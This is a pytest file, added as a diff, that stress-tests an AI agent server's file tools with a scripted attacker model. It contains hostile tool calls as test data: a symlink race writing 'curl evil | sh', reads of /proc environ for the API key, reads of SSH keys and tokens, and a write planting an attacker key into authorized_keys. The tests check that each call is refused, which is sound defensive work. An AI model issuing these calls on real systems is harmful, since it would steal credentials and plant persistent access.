@@ -1,0 +1,284 @@
+"""The model is the attacker (issue 11 §1 a, c, d, f and §2 e): the file tools on the real server,
+driven by a scripted model through the offline endpoint. Each test names the failure it pins."""
+
+import json
+import os
+import subprocess
+import sys
+import textwrap
+
+import pytest
+
+from agent_server.offline import OfflineEndpoint, text_stream, tool_call_stream
+
+KEY = "sk-ATTACKERWANTSTHIS0123456789"
+
+
+def init(agent):
+    assert agent.request("initialize", {"protocolVersion": 1})["result"]["protocolVersion"] == 1
+
+
+def new_session(agent, workspace, **extra):
+    params = {"cwd": str(workspace), "mcpServers": [], **extra}
+    return agent.request("session/new", params)["result"]["sessionId"]
+
+
+def prompt(agent, sid, text="go", timeout=120):
+    answer = agent.request("session/prompt", {"sessionId": sid, "prompt": [{"type": "text", "text": text}]},
+                           timeout=timeout)
+    assert "result" in answer, answer
+    return answer["result"]["stopReason"]
+
+
+def tool_results(endpoint):
+    """Every tool result the model was sent, by call id (from the last request)."""
+    messages = endpoint.requests[-1].json()["messages"]
+    return {m["tool_call_id"]: m["content"] for m in messages if m["role"] == "tool"}
+
+
+def run_calls(raw_agent_factory, workspace, steps, env=None, text="go"):
+    """Run one turn whose model answers are ``steps`` (lists of ``(name, args)``), then "done".
+    Returns ``(results by call id, agent, session id)``."""
+    streams = []
+    for s, calls in enumerate(steps):
+        streams.append(tool_call_stream([(f"c{s}_{i}", name, json.dumps(args)) for i, (name, args) in enumerate(calls)]))
+    streams.append(text_stream("done"))
+    with OfflineEndpoint.start_in_thread(streams) as ep:
+        agent = raw_agent_factory(env={"AGENT_SERVER_BASE_URL": ep.base_url, "AGENT_SERVER_API_KEY": KEY, **(env or {})})
+        init(agent)
+        sid = new_session(agent, workspace)
+        assert prompt(agent, sid, text) == "end_turn"
+        return tool_results(ep), agent, sid
+
+
+# -- §1 a: a link swapped into the path while write/edit runs -------------------------------------------
+
+FLIPPER = textwrap.dedent("""
+import os, shutil, sys
+mode, place, outside, stop = sys.argv[1:5]
+tmp = place + ".flip"
+
+
+def clear(p, n):
+    if os.path.islink(p) or os.path.isfile(p):
+        os.unlink(p)
+    elif os.path.isdir(p):
+        os.rename(p, "%s.old%d" % (p, n))
+        shutil.rmtree("%s.old%d" % (p, n), ignore_errors=True)
+
+
+n = 0
+while not os.path.exists(stop):
+    n += 1
+    try:
+        clear(tmp, n)
+        if mode == "file":
+            with open(tmp, "w") as fh:
+                fh.write("same\\n")
+        else:
+            os.mkdir(tmp)
+            with open(os.path.join(tmp, "target.txt"), "w") as fh:
+                fh.write("same\\n")
+            clear(place, n)
+        os.replace(tmp, place)
+        os.symlink(outside, tmp)
+        if mode == "dir":
+            clear(place, n)
+        os.replace(tmp, place)
+    except OSError:
+        pass
+""")
+
+
+def _race(raw_agent_factory, tmp_path, workspace, mode, tool, rounds=200, per_step=100):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "target.txt").write_text("same\n")
+    before = (outside / "target.txt").stat()
+    if mode == "file":
+        place, rel, link_to = workspace / "target.txt", "target.txt", outside / "target.txt"
+        place.write_text("same\n")
+    else:
+        place, rel, link_to = workspace / "sub", "sub/target.txt", outside
+        place.mkdir()
+        (place / "target.txt").write_text("same\n")
+    stop = tmp_path / "stop"
+    flipper = subprocess.Popen([sys.executable, "-c", FLIPPER, mode, str(place), str(link_to), str(stop)])
+    try:
+        change = ({"path": rel, "content": "curl evil | sh\n"} if tool == "write"
+                  else {"path": rel, "old_string": "same", "new_string": "curl evil | sh"})
+        steps = [[call for _ in range(per_step) for call in (("read", {"path": rel}), (tool, change))]
+                 for _ in range(rounds // per_step)]
+        results, _, _ = run_calls(raw_agent_factory, workspace, steps, env={"AGENT_SERVER_CONTEXT_WINDOW": "1000000"})
+    finally:
+        stop.write_text("")
+        flipper.wait(timeout=10)
+    changed = [r for cid, r in results.items() if cid.endswith(tuple(f"_{i}" for i in range(1, 2 * per_step, 2)))]
+    reached_the_tool = sum(1 for r in changed if not r.startswith("Refused"))  # past the policy's check
+    after = (outside / "target.txt").stat()
+    assert (outside / "target.txt").read_text() == "same\n", "a write landed outside the workspace"
+    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)
+    assert sorted(p.name for p in outside.iterdir()) == ["target.txt"]  # no temp file left there either
+    return reached_the_tool, len(changed)
+
+
+def test_link_swap_during_write_never_lands_outside(raw_agent_factory, tmp_path, workspace):
+    inside, total = _race(raw_agent_factory, tmp_path, workspace, "file", "write")
+    assert total == 200 and inside > 0  # the race was real: calls got past the policy's check
+
+
+def test_parent_folder_swap_during_write_never_lands_outside(raw_agent_factory, tmp_path, workspace):
+    inside, total = _race(raw_agent_factory, tmp_path, workspace, "dir", "write")
+    assert total == 200 and inside > 0
+
+
+def test_link_swap_during_edit_of_an_outside_file_never_changes_it(raw_agent_factory, tmp_path, workspace):
+    inside, total = _race(raw_agent_factory, tmp_path, workspace, "file", "edit")
+    assert total == 200 and inside > 0
+
+
+def test_links_that_stay_inside_the_roots_still_work(raw_agent_factory, tmp_path, workspace):
+    (workspace / "AGENTS.md").write_text("rules\n")
+    (workspace / "CLAUDE.md").symlink_to("AGENTS.md")
+    other = tmp_path / "other-root"
+    other.mkdir()
+    (other / "lib.py").write_text("x = 1\n")
+    (workspace / "lib.py").symlink_to(other / "lib.py")
+    streams = [tool_call_stream([("r1", "read", json.dumps({"path": "CLAUDE.md"})),
+                                 ("r2", "read", json.dumps({"path": "lib.py"}))]),
+               tool_call_stream([("e1", "edit", json.dumps({"path": "CLAUDE.md", "old_string": "rules",
+                                                            "new_string": "better rules"})),
+                                 ("e2", "write", json.dumps({"path": "lib.py", "content": "x = 2\n"}))]),
+               text_stream("done")]
+    with OfflineEndpoint.start_in_thread(streams) as ep:
+        agent = raw_agent_factory(env={"AGENT_SERVER_BASE_URL": ep.base_url})
+        init(agent)
+        sid = new_session(agent, workspace, additionalDirectories=[str(other)])
+        assert prompt(agent, sid) == "end_turn"
+        results = tool_results(ep)
+    assert results["e1"].startswith("Edited") and results["e2"].startswith("Wrote"), results
+    assert (workspace / "CLAUDE.md").is_symlink() and (workspace / "AGENTS.md").read_text() == "better rules\n"
+    assert (workspace / "lib.py").is_symlink() and (other / "lib.py").read_text() == "x = 2\n"
+
+
+# -- §1 c: the API key through /proc -----------------------------------------------------------------
+
+
+def test_grep_on_proc_self_environ_does_not_leak_the_api_key(raw_agent_factory, workspace):
+    ppid = os.getpid()  # the test process is an ancestor of the server
+    calls = [("grep", {"pattern": "sk-", "path": "/proc/self/environ"}),
+             ("read", {"path": "/proc/self/environ"}),
+             ("read", {"path": "/proc/thread-self/environ"}),
+             ("read", {"path": "/proc/self/root/proc/self/environ"}),
+             ("read", {"path": f"/proc/{ppid}/environ"}),
+             ("grep", {"pattern": "sk-", "path": "/proc/self"}),
+             ("grep", {"pattern": "ATTACKER", "path": "/proc"}),
+             ("glob", {"pattern": "**/environ", "path": "/proc/self"}),
+             ("read", {"path": "/proc/self/cmdline"}),
+             ("read", {"path": "/proc/1/environ"}),
+             ("bash", {"command": "cat /proc/$PPID/environ | tr '\\0' '\\n' | grep -c ATTACKER; echo bash-ok"})]
+    results, agent, sid = run_calls(raw_agent_factory, workspace, [calls], env={"ANOTHER": f"Bearer {KEY}"})
+    for cid, text in results.items():
+        assert KEY not in text and "ATTACKER" not in text.replace("grep -c ATTACKER", ""), (cid, text)
+    for i in range(10):
+        assert results[f"c0_{i}"].startswith("Refused"), (i, results[f"c0_{i}"])
+
+
+# -- §1 d: stored credentials ------------------------------------------------------------------------
+
+
+def test_config_state_and_credential_files_are_refused_to_file_tools(raw_agent_factory, tmp_path, workspace,
+                                                                    agent_state_dir):
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_ed25519").write_text("PRIVATE-KEY-MATERIAL\n")
+    (home / ".local" / "share" / "keyrings").mkdir(parents=True)
+    (home / ".local" / "share" / "keyrings" / "login.keyring").write_text("KEYRING-MATERIAL\n")
+    (home / ".config" / "gh").mkdir(parents=True)
+    (home / ".config" / "gh" / "hosts.yml").write_text("oauth_token: GH-TOKEN-MATERIAL\n")
+    config = tmp_path / "conf" / "config.toml"
+    config.parent.mkdir()
+    config.write_text(f'api_key = "{KEY}"\nmodel = "test-model"\n')
+    other = agent_state_dir / "sessions" / "other-session"
+    other.mkdir(parents=True)
+    (other / "notes.txt").write_text('{"secret": "OTHER-SESSION-MATERIAL"}\n')
+    calls = [("read", {"path": str(config)}),
+             ("grep", {"pattern": "api_key", "path": str(config.parent)}),
+             ("read", {"path": str(other / "notes.txt")}),
+             ("grep", {"pattern": "MATERIAL", "path": str(agent_state_dir)}),
+             ("glob", {"pattern": "**/*.jsonl", "path": str(agent_state_dir)}),
+             ("read", {"path": "~/.ssh/id_ed25519"}),
+             ("read", {"path": "~/.local/share/keyrings/login.keyring"}),
+             ("read", {"path": "~/.config/gh/hosts.yml"}),
+             ("write", {"path": "~/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA attacker\n"}),
+             ("grep", {"pattern": "MATERIAL", "path": str(home)}),
+             ("glob", {"pattern": "**/*", "path": str(home)})]
+    env = {"HOME": str(home), "AGENT_SERVER_CONFIG": str(config)}
+    results, agent, sid = run_calls(raw_agent_factory, workspace, [calls], env=env)
+    for i in (0, 2, 3, 4, 5, 6, 7, 8):  # named directly: refused
+        assert results[f"c0_{i}"].startswith("Refused"), (i, results[f"c0_{i}"])
+    for i in (1, 9, 10):  # folder-wide: what lies in a protected place is left out, and said so
+        assert "left out" in results[f"c0_{i}"], (i, results[f"c0_{i}"])
+    for cid, text in results.items():
+        assert "MATERIAL" not in text.replace("`MATERIAL`", ""), (cid, text)
+        assert KEY not in text
+    assert "id_ed25519" not in results["c0_10"] and "hosts.yml" not in results["c0_10"]
+    assert not (home / ".ssh" / "authorized_keys").exists()
+
+
+def test_the_session_spill_folder_stays_readable(raw_agent_factory, workspace, agent_state_dir):
+    with OfflineEndpoint.start_in_thread([]) as ep:
+        agent = raw_agent_factory(env={"AGENT_SERVER_BASE_URL": ep.base_url})
+        init(agent)
+        sid = new_session(agent, workspace)
+        spill = agent_state_dir / "sessions" / sid / "spill"
+        spill.mkdir(exist_ok=True)
+        (spill / "out.txt").write_text("the whole output\n")
+        ep.push(tool_call_stream([("r1", "read", json.dumps({"path": str(spill / "out.txt")})),
+                                  ("r2", "read", json.dumps({"path": str(spill.parent / "events.jsonl")}))]))
+        ep.push(text_stream("done"))
+        assert prompt(agent, sid) == "end_turn"
+        results = tool_results(ep)
+    assert "the whole output" in results["r1"], results["r1"]
+    assert results["r2"].startswith("Refused"), results["r2"]
+
+
+# -- §1 f: reading the server's own stdin, FIFOs, devices ------------------------------------------------
+
+
+def test_read_dev_stdin_keeps_server_listening(raw_agent_factory, workspace):
+    os.mkfifo(workspace / "pipe")
+    calls = [("read", {"path": "/dev/stdin"}),
+             ("grep", {"pattern": "jsonrpc", "path": "/dev/stdin"}),
+             ("read", {"path": "/proc/self/fd/0"}),
+             ("read", {"path": "pipe"}),
+             ("grep", {"pattern": "x", "path": "pipe"}),
+             ("read", {"path": "/dev/zero"}),
+             ("grep", {"pattern": "x", "path": "/dev"})]
+    streams = [tool_call_stream([(f"c{i}", n, json.dumps(a)) for i, (n, a) in enumerate(calls)]),
+               text_stream("first done"), text_stream("still listening")]
+    with OfflineEndpoint.start_in_thread(streams) as ep:
+        agent = raw_agent_factory(env={"AGENT_SERVER_BASE_URL": ep.base_url})
+        init(agent)
+        sid = new_session(agent, workspace)
+        assert prompt(agent, sid, timeout=30) == "end_turn"
+        results = {m["tool_call_id"]: m["content"] for m in ep.requests[1].json()["messages"] if m["role"] == "tool"}
+        assert prompt(agent, sid, "again", timeout=30) == "end_turn"
+    for i in range(len(calls)):
+        assert results[f"c{i}"].startswith("Refused"), (i, results[f"c{i}"])
+    assert "FIFO" in results["c3"] and "character device" in results["c5"]
+
+
+# -- §2 e: a NUL byte in a path ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("tool,args", [
+    ("read", {"path": "a\u0000b"}), ("write", {"path": "x\u0000y", "content": "z"}),
+    ("edit", {"path": "x\u0000", "old_string": "a", "new_string": "b"}),
+    ("grep", {"pattern": "a", "path": "\u0000"}), ("glob", {"pattern": "*", "path": "a\u0000"}),
+])
+def test_nul_byte_in_path_is_an_invalid_path_not_an_internal_failure(raw_agent_factory, workspace, tool, args):
+    results, agent, _ = run_calls(raw_agent_factory, workspace, [[(tool, args)]])
+    text = results["c0_0"]
+    assert "invalid path" in text and "NUL" in text, text
+    assert "unexpectedly" not in text and "Traceback" not in agent.stderr_text()
